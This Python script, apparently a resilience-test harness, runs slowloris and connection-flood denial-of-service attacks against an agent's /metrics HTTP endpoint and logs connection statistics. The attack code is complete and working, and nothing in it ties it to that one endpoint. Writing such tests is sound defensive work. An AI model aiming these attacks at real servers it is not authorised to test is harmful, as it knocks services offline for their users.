#!/usr/bin/env python3
"""http_attack: hostile HTTP clients of one address (the agent's /metrics).

    http_attack.py slowloris HOST PORT N SECONDS STATS
    http_attack.py flood HOST PORT N SECONDS STATS

slowloris  keeps N connections open, each sending one more byte of a
           request header every 1 to 2 s and never ending it; a connection
           the server ends is opened again at once.
flood      opens connections and drops them as fast as it can, N at a time
           in flight: every other one sends half a request line and is
           reset (SO_LINGER 0), the others are closed without a byte.

STATS is rewritten (tmp + rename) every 0.2 s and at the end:
    opened=N ended_by_server=N shortest_ms=N longest_ms=N
the last two: the lives of the connections the server ended (slowloris).
It first appears once N connections are open (slowloris) or N have been
opened and dropped (flood): the attack is at full strength. Exits 0
SECONDS after that (a slow start on a loaded machine does not shorten
the attack at full strength), 2 on usage errors.
"""

import errno
import os
import resource
import selectors
import socket
import struct
import sys
import time

HEADER = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: "


def write_atomic(path, text):
    tmp = path + ".tmp"
    with open(tmp, "w") as f:
        f.write(text)
    os.rename(tmp, path)


def open_socket(host, port):
    s = socket.socket()
    s.setblocking(False)
    rc = s.connect_ex((host, port))
    if rc not in (0, errno.EINPROGRESS):
        s.close()
        return None
    return s


class Stats:
    def __init__(self, path):
        self.path, self.opened, self.ended, self.next_write = path, 0, 0, 0.0
        self.shortest, self.longest = 0, 0

    def end(self, life):
        self.ended += 1
        ms = int(life * 1000)
        self.shortest = ms if self.ended == 1 else min(self.shortest, ms)
        self.longest = max(self.longest, ms)

    def write(self, now, force=False):
        if force or now >= self.next_write:
            write_atomic(self.path, f"opened={self.opened} ended_by_server={self.ended} "
                         f"shortest_ms={self.shortest} longest_ms={self.longest}\n")
            self.next_write = now + 0.2


def slowloris(host, port, n, seconds, stats, ready):
    selector = selectors.DefaultSelector()
    conns = {}  # socket -> [bytes sent, next send time, opened at]

    def start(now):
        s = open_socket(host, port)
        if s:
            stats.opened += 1
            # Spread over 1 to 2 s, so the bytes do not all come at once.
            conns[s] = [0, now + 1 + (stats.opened % 100) / 100, now]
            selector.register(s, selectors.EVENT_READ)

    def end_conn(s, now):
        selector.unregister(s)
        stats.end(time.monotonic() - conns.pop(s)[2])
        s.close()
        start(now)

    now = time.monotonic()
    end = now + seconds
    for _ in range(n):
        start(now)
    while (now := time.monotonic()) < end:
        if not ready and stats.opened >= n:
            stats.write(now, force=True)
            ready = True
            end = now + seconds
        for key, _ in selector.select(timeout=0.05):
            try:
                gone = key.fileobj.recv(4096) == b""
            except OSError:
                gone = True
            if gone and key.fileobj in conns:
                end_conn(key.fileobj, now)
        for s, state in list(conns.items()):
            if state[1] > now:
                continue
            byte = HEADER[state[0]:state[0] + 1] or b"a"
            try:
                s.send(byte)
            except BlockingIOError:
                pass
            except OSError:
                end_conn(s, now)
                continue
            state[0] += 1
            state[1] = now + 1 + (state[0] % 2) * 0.9
        if ready:
            stats.write(now)


def flood(host, port, n, seconds, stats, ready):
    reset = struct.pack("ii", 1, 0)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        batch = []
        for _ in range(n):
            try:
                batch.append(socket.create_connection((host, port), timeout=1))
            except OSError:
                pass
        stats.opened += len(batch)
        for i, s in enumerate(batch):
            if i % 2:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
                try:
                    s.send(b"GET /met")
                except OSError:
                    pass
            s.close()
        now = time.monotonic()
        if not ready and stats.opened >= n:
            ready = True
            end = now + seconds
        if ready:
            stats.write(now)


def main():
    if len(sys.argv) != 7 or sys.argv[1] not in ("slowloris", "flood"):
        sys.stderr.write(__doc__)
        sys.exit(2)
    mode, host, port, n, seconds, path = sys.argv[1:]
    port, n = int(port), int(n)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stats = Stats(path)
    (slowloris if mode == "slowloris" else flood)(host, port, n, float(seconds), stats, False)
    stats.write(time.monotonic(), force=True)


if __name__ == "__main__":
    main()
